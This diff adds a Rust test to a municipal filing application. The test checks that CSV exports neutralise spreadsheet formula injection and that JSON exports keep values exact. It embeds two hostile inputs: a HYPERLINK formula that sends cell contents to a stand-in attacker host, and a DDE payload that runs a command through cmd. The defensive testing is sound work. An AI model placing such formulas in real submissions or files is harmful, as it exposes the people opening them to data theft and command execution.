@@ -248,3 +248,42 @@ db_test!(fn a_supervisor_assigns_many_at_once_or_none(db) {
     assert_eq!(app.export(&worker, &q).unwrap().rows, 3);
     assert!(matches!(app.export(&t.sign_in("hoken-nenkin@sendai.example"), &q), Err(AppError::NotFound)));
 });
+
+db_test!(fn answers_a_spreadsheet_would_run_are_exported_as_text_in_csv_and_exact_in_json(db) {
+    let t = TestApp::builder().db(db).build();
+    let app = &t.app;
+    let mut data: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(defaults::repo_root().join("forms/juminhyo-copy/examples/valid/self-whole-household.json")).unwrap()).unwrap();
+    let purpose = "=HYPERLINK(\"https://evil.example/?\"&A1,\"詳細\")";
+    let building = "@SUM(1+1)*cmd|' /C calc'!A0";
+    data["purpose"] = serde_json::Value::from(purpose);
+    data["applicant_address"]["building"] = serde_json::Value::from(building);
+    // As stored (normalised): still beginning with `=` and `@`.
+    let kept = app.validate_data(&t.tenant(), "juminhyo-copy", data.clone()).unwrap().normalized;
+    let (purpose, building) = (kept["purpose"].as_str().unwrap().to_string(), kept["applicant_address"]["building"].as_str().unwrap().to_string());
+    assert!(purpose.starts_with('=') && building.starts_with('@'), "{kept}");
+    app.submit_data(&t.tenant(), "juminhyo-copy", data, &uuid::Uuid::new_v4().to_string()).unwrap();
+    let clerk = t.sign_in("koseki-jumin@sendai.example");
+    let query = |format| madoguchi_app::review::ExportQuery { procedure: "juminhyo-copy".into(), ids: vec![], from: None, to: None, states: vec![], format };
+    for bom in [false, true] {
+        let export = app.export(&clerk, &query(madoguchi_app::review::ExportFormat::Csv { bom })).unwrap();
+        assert_eq!(export.body.starts_with(b"\xEF\xBB\xBF"), bom);
+        let text = String::from_utf8(export.body).unwrap();
+        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+        let column = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
+        let filing = &rows[2];
+        assert_eq!(&filing[column("purpose")], format!("'{purpose}"));
+        assert_eq!(&filing[column("applicant_address.building")], format!("'{building}"));
+        // Every cell of the file is safe to open, the filing's own columns included.
+        for row in &rows {
+            for cell in row.iter() {
+                let first = cell.chars().next();
+                assert!(!matches!(first, Some('=' | '+' | '@' | '\t' | '\r')), "{cell:?}");
+            }
+        }
+    }
+    let json = app.export(&clerk, &query(madoguchi_app::review::ExportFormat::Json)).unwrap();
+    let body: serde_json::Value = serde_json::from_slice(&json.body).unwrap();
+    assert_eq!(body["filings"][0]["answers"]["purpose"], purpose.as_str(), "the JSON export is exact");
+    assert_eq!(body["filings"][0]["answers"]["applicant_address"]["building"], building.as_str());
+});
